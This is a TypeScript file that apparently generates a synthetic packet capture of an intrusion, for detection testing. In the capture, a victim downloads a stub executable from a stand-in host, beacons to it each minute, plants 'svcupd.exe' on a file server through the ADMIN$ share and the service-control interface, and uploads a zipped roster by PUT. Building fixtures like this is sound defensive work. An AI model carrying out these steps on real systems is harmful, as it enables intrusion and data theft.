import { request } from './protocols/text.ts'
import { tls } from './protocols/tls.ts'
import { interfaces, SmbTalk } from './protocols/windows.ts'
import { Wire } from './wire.ts'

const victim = '10.20.1.7'
const fileServer = '10.20.3.15'
const master = '198.51.100.66'
const program = Buffer.concat([
  Buffer.from(
    '4d5a90000300000004000000ffff0000b800000000000000400000000000000000000000000000000000000000000000000000000000000000000000800000000e1fba0e00b409cd21b8014ccd21',
    'hex',
  ),
  Buffer.from('This program cannot be run in DOS mode.\r\r\n$'),
  Buffer.alloc(3_000, 0x90),
])

/**
 * An intrusion from its first step to its last, as one capture: a mail leads someone to a program on a bare address, the program calls
 * its master every minute, goes to another host through its administrative share, and documents leave the house.
 */
export function intrusion(startMs: number): Buffer {
  const wire = new Wire(startMs)
  const download = wire.tcp({ from: victim, to: master, port: 80 })
  request(download, {
    ...{ host: master, target: '/invoice/update.exe', answer: program },
    answerHeaders: { 'Content-Type': 'application/x-msdownload' },
  })
  download.close()
  for (let call = 0; call < 40; call++) {
    wire.wait(60_000 + ((call * 7) % 5) * 400)
    tls(wire.tcp({ from: victim, to: master, port: 443 }), { dataBytes: [260 + (call % 3), 140], alpn: [] }).close()
  }
  const smb = new SmbTalk(wire, victim, fileServer).signIn({ user: 'ops' })
  smb.tree(`\\\\${fileServer}\\ADMIN$`).open('Temp\\svcupd.exe').write(program).close()
  wire.wait(2_000)
  smb.tree(`\\\\${fileServer}\\IPC$`, true).open('svcctl').call(interfaces.serviceControl, 12)
  smb.call(interfaces.serviceControl, 19).close().end()
  wire.wait(120_000)
  const upload = wire.tcp({ from: victim, to: master, port: 80 })
  request(upload, {
    ...{
      host: master,
      method: 'PUT',
      target: '/u/7',
      body: Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(40_000, 0x33)]),
    },
    headers: {
      'Content-Disposition': 'attachment; filename="2026-花名册.zip"',
      'Content-Type': 'application/octet-stream',
    },
  })
  upload.close()
  return wire.bytes()
}
